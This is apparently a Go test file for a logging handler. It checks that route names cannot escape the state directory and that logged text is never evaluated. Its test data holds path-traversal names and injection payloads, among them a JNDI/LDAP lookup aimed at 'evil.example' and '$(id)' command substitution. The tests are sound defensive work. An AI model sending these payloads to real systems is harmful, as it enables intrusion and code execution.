package handler_test

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/slogship/slogship/handler"
	"github.com/slogship/slogship/route"
	"github.com/slogship/slogship/transport/memory"
)

// placesElsewhere are names that would lead out of their directory, or into
// another's, on some system.
func placesElsewhere() []string {
	names := []string{
		"", ".", "..", "../x", "../victim", "/abs", "a/b", "a/../../x", `..\x`, `a\b`, `C:\x`, "c:x", "//host/share", "a\x00b", "a\x00", "A", "Logs", "LOGS",
		"con", "prn", "aux", "nul", "com1", "com9", "lpt1", "com0", "nul.txt", "con.", "a.", "a ", " a", ".hidden", "a:stream", "a*", "a?", "~", "$HOME",
		"${HOME}", "%2e%2e", "a\n", "a\r", "\x1b[2J", "é", "e\u0301", "\u202ea", "a\u200b", "ａ", "\xff", "lost+found", "dead.ndjson",
	}
	return append(names, strings.Repeat("a", 65), strings.Repeat("a", 300), strings.Repeat("../", 100))
}

// tree is all that is below dir but the directory of the handlers, by name.
func tree(t *testing.T, dir, not string) (names []string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(name string, d fs.DirEntry, err error) error {
		if name == not {
			return filepath.SkipDir
		}
		names = append(names, name)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return names
}

// S21: a name that is more than a name is refused, as a route's and as a dead
// letter's; as an old one it renames nothing. What is outside the directory stays
// as it was, and inside there is nothing that was not asked for.
func TestS21_Names(t *testing.T) {
	outside := t.TempDir()
	dir := filepath.Join(outside, "state")
	if err := os.MkdirAll(filepath.Join(outside, "victim", "sub"), 0o700); err != nil {
		t.Fatal(err)
	}
	before := tree(t, outside, dir)
	sink := memory.New()
	tried, refused := 0, 0
	open := func(opts handler.Options, routes ...route.Route) error {
		tried++
		opts.Dir, opts.MinFree = dir, -1
		h, err := handler.New(patiently(routes...), &opts)
		if err != nil {
			return err
		}
		slog.New(h).Info("x")
		return h.Close(context.Background())
	}
	for _, name := range placesElsewhere() {
		if err := open(handler.Options{}, route.Route{Name: name, To: sink}); !errors.Is(err, route.ErrInvalid) {
			t.Errorf("a route %q: %v", name, err)
		} else {
			refused++
		}
		if name == "" {
			continue // no dead letter, which is allowed
		}
		if err := open(handler.Options{}, route.Route{Name: "a", To: sink, DeadLetter: name}); !errors.Is(err, route.ErrInvalid) {
			t.Errorf("a dead letter %q: %v", name, err)
		} else {
			refused++
		}
	}
	for _, name := range placesElsewhere() {
		if err := open(handler.Options{Rename: map[string]string{name: "a"}}, route.Route{Name: "a", To: sink}); err != nil {
			t.Errorf("renamed from %q: %v", name, err)
		}
	}
	if after := tree(t, outside, dir); !slices.Equal(before, after) {
		t.Errorf("outside there is %q, was %q", after, before)
	}
	entries, err := os.ReadDir(dir)
	if err != nil || len(entries) != 1 || entries[0].Name() != "a" {
		t.Errorf("inside there is %q, %v", entries, err)
	}
	t.Logf("S21: %d names in %d places, %d refused, outside the directory 0", len(placesElsewhere()), tried, refused)
}

// S21: names that are near each other have a directory each.
func TestS21_NoCollisions(t *testing.T) {
	dir := t.TempDir()
	names := []string{"a", "a-", "-a", "aa", "a-a", "0", "00", "-", "--", "con1", "com10", "nul-", "dead", "lock", "console", strings.Repeat("a", 63), strings.Repeat("a", 64)}
	var routes []route.Route
	sinks := make(map[string]*memory.Sink)
	for _, name := range names {
		sinks[name] = memory.New()
		routes = append(routes, route.Route{Name: name, To: sinks[name], Match: route.Equals("to", name)})
	}
	h, err := handler.New(patiently(routes...), &handler.Options{Dir: dir, MinFree: -1})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range names {
		slog.New(h).Info(name, "to", name)
	}
	if err := h.Close(context.Background()); err != nil {
		t.Error(err)
	}
	entries, err := os.ReadDir(dir)
	if err != nil || len(entries) != len(names) {
		t.Errorf("%d directories, %v, want %d", len(entries), err, len(names))
	}
	for name, sink := range sinks {
		if got := sink.Messages(); len(got) != 1 || got[0] != name {
			t.Errorf("the route %q got %q", name, got)
		}
	}
	t.Logf("S21: %d names, %d directories, collisions %d", len(names), len(entries), len(names)-len(entries))
}

// S8: the handler evaluates nothing: message, keys and values are at the
// destination as they were logged, through the buffer.
func TestS8_HandlerVerbatim(t *testing.T) {
	t.Setenv("SLOGSHIP_S8", "found-0815")
	sink := memory.New()
	h, err := handler.New([]route.Route{{Name: "a", To: sink}}, &handler.Options{InMemory: true})
	if err != nil {
		t.Fatal(err)
	}
	texts := []string{"${jndi:ldap://evil.example/x}", "${SLOGSHIP_S8}", "$SLOGSHIP_S8", "{{.Message}}", "%s %d %v %n", "$(id)", "`id`", "%!s(MISSING)", "#{7919*7}", `\u0041\x41`}
	for _, text := range texts {
		slog.New(h).WithGroup(text).Info(text, text, text, "e", fmt.Errorf("%s", text))
	}
	if err := h.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	changed := 0
	records := sink.Records()
	if len(records) != len(texts) {
		t.Fatalf("%d records of %d", len(records), len(texts))
	}
	for i, rec := range records {
		group := rec.Attrs[0]
		inner := group.Value.Group()[0]
		if text := texts[i]; rec.Message != text || group.Key != text || inner.Key != text || inner.Value.String() != text {
			changed++
			t.Errorf("%q arrived as %q, %v", text, rec.Message, rec.Attrs)
		}
	}
	t.Logf("S8: %d texts as message, group, key and value, changed %d", len(texts), changed)
}
